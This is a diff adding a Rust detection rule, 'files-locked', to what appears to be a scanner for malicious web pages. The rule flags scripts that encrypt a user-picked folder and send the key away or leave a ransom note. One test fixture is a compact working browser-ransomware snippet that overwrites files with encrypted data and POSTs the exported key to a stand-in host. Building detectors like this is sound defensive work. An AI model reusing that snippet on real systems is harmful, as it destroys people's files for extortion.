@@ -1,0 +1,43 @@
+//! `files-locked`.
+
+use crate::facts::Atom;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::stream::Kind;
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "files-locked",
+    description: "The page asks for a folder, encrypts the files in it and sends the key away or leaves a note.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::Encrypt])],
+    within: 0,
+    only_if: Some(locks),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "const d=await showDirectoryPicker();for await(const h of d.values()){const b=await (await h.getFile()).arrayBuffer();const e=await crypto.subtle.encrypt(a,k,b);const w=await h.createWritable();await w.write(e)}fetch('https://k.example/',{method:'POST',body:await crypto.subtle.exportKey('raw',k)})",
+        ],
+        without: &[
+            "const d=await showDirectoryPicker();for await(const h of d.values()){list(h.name)}",
+            "const f=await showOpenFilePicker();const e=await crypto.subtle.encrypt(a,k,await f.getFile());const w=await out.createWritable();await w.write(e)",
+        ],
+    },
+};
+
+/// Whether files of a folder are written over with what was encrypted, and a key goes to a server or a note is left.
+fn locks(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 260);
+    let folder = near.has_word(&["showDirectoryPicker"])
+        && near.has_word(&["createWritable"])
+        && near.has_word(&["getFile"]);
+    let key = near.has_word(&["exportKey", "wrapKey"])
+        && near.has_fact(&[Atom::Request, Atom::Post, Atom::PostMethod]);
+    let left = near
+        .words(&["getFileHandle"])
+        .any(|at| near.is(at + 1, b'(') && near.kind(at + 2) == Some(Kind::Str) && near.is(at + 3, b','));
+    let note =
+        left && near.has_text(&["encrypted", "locked", "decrypt", "restore", "recover", "ransom", "bitcoin"]);
+    folder && near.has_word(&["values", "entries", "keys"]) && (key || note)
+}
